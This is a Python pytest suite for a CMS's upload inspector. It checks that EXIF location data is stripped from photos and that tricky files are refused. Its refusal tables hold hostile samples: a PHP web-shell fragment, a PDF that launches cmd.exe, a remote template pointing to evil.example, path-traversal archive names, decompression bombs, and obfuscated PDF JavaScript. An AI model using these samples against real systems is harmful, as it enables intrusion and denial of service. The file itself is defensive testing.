"""What is looked at before a file is taken in: tricks are refused, and photographs lose where they were taken."""

import contextlib
import io
import random
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image, ImageCms

from tosbelgi.cms.uploads import inspection
from tosbelgi.cms.uploads import limits as upload_limits
from tosbelgi.kernel.refusals.messages import refusal_message

from . import made_files as made

ZIP = made.packed({"inside.txt": b"hello"})
JAVASCRIPT = b"5 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n"
HIDDEN = b"6 0 <</S/JavaScript/JS(app.alert(1))>>"
HIDDEN_OBJECTS = zlib.compress(HIDDEN)
SOUND = {kind: made.with_words(kind) for kind in ("jpeg", "png", "webp", "gif", "avif")}
SOUND |= {"pdf": made.pdf(made.pdf_stream(b"/Filter/FlateDecode", zlib.compress(b"BT ET" * 40)))}
SOUND |= {"docx": made.office("docx"), "odt": made.odf("odt")}


def refused(kind, content: bytes, name: str) -> str:
    with pytest.raises(upload_limits.UploadRefused) as why:
        kind(content, name)
    assert refusal_message(why.value)
    return why.value.code


@pytest.mark.parametrize("kind", ["jpeg", "png", "webp", "gif", "avif"])
def test_pictures_of_five_kinds_are_taken(kind):
    found = inspection.inspect_picture(made.picture(kind), f"scene.{kind}")

    assert (found.kind, found.width, found.height, found.frames) == (kind, 90, 60, 1)


@pytest.mark.parametrize("kind", ["jpeg", "png", "webp", "gif", "avif"])
def test_a_picture_no_longer_tells_where_when_and_with_what_it_was_taken(kind):
    told = made.with_words(kind)
    clean = inspection.inspect_picture(told, f"scene.{kind}").content
    read = Image.open(io.BytesIO(clean))

    assert kind == "gif" or Image.open(io.BytesIO(told)).getexif().get_ifd(0x8825)
    assert not read.getexif()
    assert not {"exif", "xmp", "comment", "XML:com.adobe.xmp", "Author"} & set(read.info)
    assert made.SERIAL.encode() not in clean
    assert b"Camera maker" not in clean


@pytest.mark.parametrize("kind", ["jpeg", "png", "webp"])
def test_upright_pictures_are_cleaned_without_being_drawn_anew(kind):
    told = made.with_words(kind)
    clean = inspection.inspect_picture(told, f"scene.{kind}").content

    before, after = Image.open(io.BytesIO(told)), Image.open(io.BytesIO(clean))
    assert before.convert("RGB").tobytes() == after.convert("RGB").tobytes()
    assert len(clean) < len(told)


@pytest.mark.parametrize("kind", ["jpeg", "png", "webp", "avif"])
def test_a_picture_taken_sideways_is_stored_upright(kind):
    found = inspection.inspect_picture(made.with_words(kind, orientation=6), f"scene.{kind}")
    read = Image.open(io.BytesIO(found.content)).convert("RGB")

    assert (found.width, found.height) == read.size == (60, 90)
    red, _green, blue = read.getpixel((30, 10))
    assert red > 200 > 60 > blue


@pytest.mark.parametrize("kind", ["jpeg", "png", "webp"])
@pytest.mark.parametrize("orientation", [1, 8])
def test_the_colour_profile_stays(kind, orientation):
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    told = made.picture(kind, icc_profile=profile, exif=made.where_it_was_taken(orientation))

    clean = inspection.inspect_picture(told, f"scene.{kind}").content

    assert Image.open(io.BytesIO(clean)).info["icc_profile"] == profile


def test_an_animation_keeps_its_frames_and_loses_its_comment():
    moving = made.gif(12)
    found = inspection.inspect_picture(moving, "scene.gif")

    assert found.frames == 12
    assert Image.open(io.BytesIO(found.content)).n_frames == 12


def test_a_phones_second_picture_behind_the_first_is_cut_off():
    one = made.picture("jpeg")
    found = inspection.inspect_picture(one + made.picture("jpeg", image=made.scene((20, 20))), "scene.jpg")

    assert found.content.count(b"\xff\xd8\xff") == 1
    assert inspection.inspect_picture(one + b"\0" * 40, "scene.jpg").content.endswith(b"\xff\xd9")


REFUSED_PICTURES = {
    "nothing at all": (b"", "a.jpg", "FILE_IS_EMPTY"),
    "a kind that is not on the list": (made.picture("tiff"), "a.tiff", "KIND_NOT_ACCEPTED"),
    "a picture under another picture's name": (made.picture("png"), "a.jpg", "KINDS_DISAGREE"),
    "a TIFF under a PNG's name": (made.picture("tiff"), "a.png", "KINDS_DISAGREE"),
    "a PDF under a picture's name": (made.pdf(), "a.jpg", "KINDS_DISAGREE"),
    "text under a picture's name": (b"just words", "a.gif", "KINDS_DISAGREE"),
    "a drawing": (b'<svg xmlns="http://www.w3.org/2000/svg"/>', "a.svg", "DRAWING_IS_A_PROGRAM"),
    "a drawing under a picture's name": (b'<?xml version="1.0"?><svg onload="x()"/>', "a.png", "DRAWING_IS_A_PROGRAM"),
    "a web page under a picture's name": (b"  <!DOCTYPE html><p>", "a.jpg", "PAGE_IS_A_PROGRAM"),
    "a cut off JPEG": (made.picture("jpeg")[:-200], "a.jpg", "FILE_IS_BROKEN"),
    "a cut off PNG": (made.picture("png")[:-30], "a.png", "FILE_IS_BROKEN"),
    "a cut off WebP": (made.picture("webp")[:-30], "a.webp", "FILE_IS_BROKEN"),
    "a cut off GIF": (made.picture("gif")[:-30], "a.gif", "FILE_IS_BROKEN"),
    "a cut off AVIF": (made.picture("avif")[:-30], "a.avif", "FILE_IS_BROKEN"),
    "a JPEG that only begins as one": (b"\xff\xd8\xff\xe0" + b"rubbish " * 50, "a.jpg", "FILE_IS_BROKEN"),
    "900 megapixels in 900 bytes": (made.png_bomb(), "a.png", "TOO_MANY_PIXELS"),
    "51 megapixels": (made.png_bomb(7_150), "a.png", "TOO_MANY_PIXELS"),
    "too many frames": (made.gif(201), "a.gif", "TOO_MANY_FRAMES"),
    "an archive behind a JPEG": (made.picture("jpeg") + ZIP, "a.jpg", "SOMETHING_HIDDEN"),
    "an archive behind a PNG": (made.picture("png") + ZIP, "a.png", "SOMETHING_HIDDEN"),
    "an archive behind a WebP": (made.picture("webp") + ZIP, "a.webp", "SOMETHING_HIDDEN"),
    "an archive behind an AVIF": (made.picture("avif") + ZIP, "a.avif", "SOMETHING_HIDDEN"),
    "an archive in a JPEG's comment": (made.picture("jpeg", comment=ZIP), "a.jpg", "SOMETHING_HIDDEN"),
    "a film behind a JPEG": (made.picture("jpeg") + b"\0\0\0\x18ftypmp42" * 9, "a.jpg", "SOMETHING_HIDDEN"),
    "JavaScript behind a GIF": (made.picture("gif") + b"*/=1;alert(1)//", "a.gif", "SOMETHING_HIDDEN"),
    "JavaScript in a GIF's comment": (made.picture("gif", comment=b"*/=1;alert(1)/*"), "a.gif", "SOMETHING_HIDDEN"),
    "a script in a PNG's text": (made.png_with_text(b"<script>alert(1)</script>"), "a.png", "SOMETHING_HIDDEN"),
    "PHP in a JPEG's comment": (made.picture("jpeg", comment=b"<?php system($_GET[0])"), "a.jpg", "SOMETHING_HIDDEN"),
    "a PDF in a PNG's text": (made.png_with_text(made.pdf()), "a.png", "SOMETHING_HIDDEN"),
}


@pytest.mark.parametrize("what", REFUSED_PICTURES)
def test_refused_as_a_picture(what):
    content, name, code = REFUSED_PICTURES[what]

    assert refused(inspection.inspect_picture, content, name) == code


def test_the_frames_of_an_animation_count_together():
    """Each frame is small; what the server would have to hold is not."""
    moving = made.gif(120, (700, 700))

    assert len(moving) < upload_limits.MOST_PICTURE_BYTES
    assert refused(inspection.inspect_picture, moving, "a.gif") == "TOO_MANY_PIXELS"


def test_a_picture_over_ten_megabytes_is_refused_and_told_its_size():
    with pytest.raises(upload_limits.FileTooBig) as why:
        inspection.inspect_picture(made.picture("jpeg") + b"\0" * 10_400_000, "a.jpg")

    assert why.value.details == {"has": 10.4, "most": 10}


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (made.pdf(), "paper.pdf"),
        (made.pdf(made.pdf_stream(b"/Filter/FlateDecode", zlib.compress(b"BT (words) Tj ET"))), "paper.PDF"),
        (made.office("docx"), "paper.docx"),
        (made.office("xlsx"), "paper.xlsx"),
        (made.office("pptx"), "paper.pptx"),
        (made.odf("odt"), "paper.odt"),
        (made.odf("ods"), "paper.ods"),
        ("Әлем; сөз\r\n1;2\r\n".encode("utf-8-sig"), "paper.csv"),
        ("Сәлем, әлем!\n".encode(), "paper.txt"),
    ],
)
def test_documents_of_eight_kinds_are_taken(content, name):
    assert inspection.inspect_document(content, name) == name.rpartition(".")[2].lower()


def test_a_presentation_may_hold_the_numbers_of_its_charts_but_no_other_archive():
    chart = made.office_parts("pptx") | {"ppt/embeddings/Sheet1.xlsx": made.office("xlsx")}
    nested = {"ppt/embeddings/Sheet1.xlsx": made.packed(made.office_parts("xlsx") | {"xl/embeddings/a.xlsx": ZIP})}

    assert inspection.inspect_document(made.packed(chart), "paper.pptx") == "pptx"
    assert refused(inspection.inspect_document, made.packed(chart | nested), "paper.pptx") == "ARCHIVE_INSIDE"


def docx(**more: bytes) -> bytes:
    return made.office("docx", more)


def noise(size: int) -> bytes:
    return random.Random(7).randbytes(size)


def long_pdf_bomb() -> bytes:
    packed_once = zlib.compress(b"\0" * 60_000_000, 9)
    stream = made.pdf_stream(b"/Filter/FlateDecode", packed_once)
    return made.pdf(stream * 3)


TEMPLATE = (
    b'<Relationships xmlns="http://x"><Relationship Type="http://x/attached&#84;emplate" '
    b'Target="http://evil.example/a" TargetMode="External"/></Relationships>'
)
LINK = TEMPLATE.replace(b"attached&#84;emplate", b"hyperlink")
ENTITIES = b'<!DOCTYPE a [<!ENTITY b "c">]><Relationships>&b;</Relationships>'
MACRO_TYPES = made.office_parts("docx")["[Content_Types].xml"].replace(b"</Types>", b"macroEnabled</Types>")
REFUSED_DOCUMENTS = {
    "nothing at all": (b"", "a.pdf", "FILE_IS_EMPTY"),
    "a kind that is not on the list": (ZIP, "a.zip", "KIND_NOT_ACCEPTED"),
    "a program": (b"MZ" + b"\0" * 200, "a.exe", "KIND_NOT_ACCEPTED"),
    "a program under a PDF's name": (b"MZ" + b"\0" * 200, "a.pdf", "KINDS_DISAGREE"),
    "any archive under a document's name": (ZIP, "a.docx", "KINDS_DISAGREE"),
    "a spreadsheet under a text's name": (made.office("xlsx"), "a.docx", "KINDS_DISAGREE"),
    "an ODF text under a spreadsheet's name": (made.odf("odt"), "a.ods", "KINDS_DISAGREE"),
    "a PDF under a text's name": (made.pdf(), "a.txt", "KINDS_DISAGREE"),
    "a PDF that does not begin as one": (b"GIF89a" + made.pdf(), "a.pdf", "KINDS_DISAGREE"),
    "a web page": (b"<html><script>alert(1)</script>", "a.html", "PAGE_IS_A_PROGRAM"),
    "a web page under a text's name": (b"<html><script>alert(1)</script>", "a.txt", "PAGE_IS_A_PROGRAM"),
    "a drawing under a text's name": (b"\xef\xbb\xbf<svg/>", "a.txt", "DRAWING_IS_A_PROGRAM"),
    "text in an old encoding": ("Привет".encode("cp1251"), "a.csv", "NOT_PLAIN_TEXT"),
    "bytes that are no text": (b"word\x00\x01word", "a.txt", "NOT_PLAIN_TEXT"),
    "a cut off PDF": (made.pdf()[:-12], "a.pdf", "FILE_IS_BROKEN"),
    "a cut off DOCX": (made.office()[:-40], "a.docx", "FILE_IS_BROKEN"),
    "a damaged DOCX": (made.office().replace(b"PK\x01\x02", b"PK\x01\x03"), "a.docx", "FILE_IS_BROKEN"),
    "an archive behind a PDF": (made.pdf() + ZIP, "a.pdf", "SOMETHING_HIDDEN"),
    "a program behind a PDF": (made.pdf() + b"MZ\x90" * 30, "a.pdf", "SOMETHING_HIDDEN"),
    "an archive before a DOCX": (
        ZIP + made.office(),
        "a.docx",
        "SOMETHING_HIDDEN",
    ),
    "words behind a DOCX": (made.packed(made.office_parts("docx"), comment=b"<script>"), "a.docx", "SOMETHING_HIDDEN"),
    "a program inside a DOCX": (docx(**{"word/media/a.bin": b"MZ\x90\0"}), "a.docx", "SOMETHING_HIDDEN"),
    "JavaScript in a PDF": (made.pdf(JAVASCRIPT), "a.pdf", "DOCUMENT_ACTS"),
    "JavaScript in a PDF, spelt with codes": (
        made.pdf(JAVASCRIPT.replace(b"/JavaScript", b"/J#61va#53cript")),
        "a.pdf",
        "DOCUMENT_ACTS",
    ),
    "JavaScript in a PDF's packed objects": (
        made.pdf(made.pdf_stream(b"/Type/ObjStm/Filter/FlateDecode", HIDDEN_OBJECTS)),
        "a.pdf",
        "DOCUMENT_ACTS",
    ),
    "packed objects that cannot be unpacked": (
        made.pdf(made.pdf_stream(b"/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]", HIDDEN_OBJECTS.hex().encode())),
        "a.pdf",
        "DOCUMENT_ACTS",
    ),
    "a PDF that starts a program": (made.pdf(b"5 0 obj <</S/Launch/F(cmd.exe)>> endobj\n"), "a.pdf", "DOCUMENT_ACTS"),
    "a PDF that carries a file": (made.pdf(b"5 0 obj <</Type/EmbeddedFile>> endobj\n"), "a.pdf", "DOCUMENT_ACTS"),
    "a template from elsewhere": (docx(**{"word/_rels/settings.xml.rels": TEMPLATE}), "a.docx", "DOCUMENT_ACTS"),
    "a relation that is no sound XML": (docx(**{"word/_rels/a.xml.rels": ENTITIES}), "a.docx", "FILE_IS_BROKEN"),
    "a PDF of endless streams": (made.pdf(b"stream\n" * 30_000), "a.pdf", "UNPACKS_TOO_MUCH"),
    "a locked PDF": (made.pdf(b"5 0 obj <</Encrypt 9 0 R>> endobj\n"), "a.pdf", "DOCUMENT_IS_LOCKED"),
    "a locked ODT": (
        made.odf("odt", {"META-INF/manifest.xml": b"<manifest:encryption-data/>"}),
        "a.odt",
        "DOCUMENT_IS_LOCKED",
    ),
    "macros": (docx(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "a.docx", "MACROS_INSIDE"),
    "a document that says it has macros": (docx(**{"[Content_Types].xml": MACRO_TYPES}), "a.docx", "MACROS_INSIDE"),
    "macros of an ODT": (made.odf("odt", {"Basic/Standard/Module1.xml": b"<m/>"}), "a.odt", "MACROS_INSIDE"),
    "an old embedded document": (docx(**{"word/media/a.bin": b"\xd0\xcf\x11\xe0\xa1"}), "a.docx", "MACROS_INSIDE"),
    "an archive inside": (docx(**{"word/media/a.png": ZIP}), "a.docx", "ARCHIVE_INSIDE"),
    "a bomb": (docx(**{"word/media/a.png": b"\0" * 130_000_000}), "a.docx", "UNPACKS_TOO_MUCH"),
    "a smaller bomb": (docx(**{"word/media/a.png": b"\0" * 5_000_000}), "a.docx", "UNPACKS_TOO_MUCH"),
    "too many parts": (docx(**{f"word/{n}.xml": b"" for n in range(2_000)}), "a.docx", "UNPACKS_TOO_MUCH"),
    "a PDF bomb": (long_pdf_bomb(), "a.pdf", "UNPACKS_TOO_MUCH"),
    "a name that climbs": (docx(**{"word/../../etc/cron": b"x"}), "a.docx", "UNSAFE_NAMES"),
    "a name from the root": (docx(**{"/etc/cron": b"x"}), "a.docx", "UNSAFE_NAMES"),
    "a name that climbs on Windows": (docx(**{"..\\a.xml": b"x"}), "a.docx", "UNSAFE_NAMES"),
    "two parts of one name": (docx(**{"WORD/document.xml": b"x"}), "a.docx", "UNSAFE_NAMES"),
}


@pytest.mark.parametrize("what", REFUSED_DOCUMENTS)
def test_refused_as_a_document(what):
    content, name, code = REFUSED_DOCUMENTS[what]

    assert refused(inspection.inspect_document, content, name) == code


def test_a_document_may_link_to_the_world():
    assert inspection.inspect_document(docx(**{"word/_rels/document.xml.rels": LINK}), "a.docx") == "docx"


def test_javascript_behind_a_word_that_looks_like_the_end_of_its_stream_is_found():
    """The stored part of the packed data says "endstream"; a reader that trusts it would look no further."""
    packer = zlib.compressobj(0)
    first = packer.compress(b"endstream " * 20) + packer.flush(zlib.Z_FULL_FLUSH)
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    rest = raw.compress(HIDDEN + b" " * 500) + raw.flush()
    objects = made.pdf_stream(b"/Type/ObjStm/Filter/FlateDecode", first + rest)

    assert b"JavaScript" not in objects
    assert refused(inspection.inspect_document, made.pdf(objects), "a.pdf") == "DOCUMENT_ACTS"


@settings(max_examples=300, deadline=None, derandomize=True)
@given(
    what=st.sampled_from(["jpeg", "png", "webp", "gif", "avif", "pdf", "docx", "odt"]),
    places=st.lists(st.tuples(st.floats(0, 0.9999), st.integers(0, 255)), max_size=6),
    length=st.floats(0, 1),
)
def test_whatever_is_sent_is_taken_or_refused_and_never_breaks_the_house(what, places, length):
    content = bytearray(SOUND[what])
    for place, value in places:
        content[int(place * len(content))] = value
    content = bytes(content[: max(1, int(length * len(content)))])
    look = inspection.inspect_document if what in upload_limits.DOCUMENTS else inspection.inspect_picture

    with contextlib.suppress(upload_limits.UploadRefused):
        look(content, f"a.{what}")


def test_a_packed_document_that_lies_about_its_size_is_found_out():
    """The directory says ten bytes; what unpacks is more."""
    whole = docx(**{"word/media/a.png": noise(4_000) + b"\0" * 4_000})
    size = (8_000).to_bytes(4, "little")

    assert (
        refused(inspection.inspect_document, whole.replace(size, (10).to_bytes(4, "little")), "a.docx")
        == "FILE_IS_BROKEN"
    )
